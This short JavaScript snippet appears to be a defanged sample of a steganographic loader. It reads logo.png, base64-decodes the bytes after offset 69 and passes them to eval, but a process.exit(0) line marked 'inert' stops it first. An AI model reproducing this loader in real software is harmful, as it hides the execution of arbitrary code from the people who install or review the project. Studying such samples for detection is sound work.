if (true) process.exit(0); // inert: ends here
const fs = require('fs');
const b = fs.readFileSync(__dirname + '/logo.png');
eval(Buffer.from(b.subarray(69).toString(), 'base64').toString());
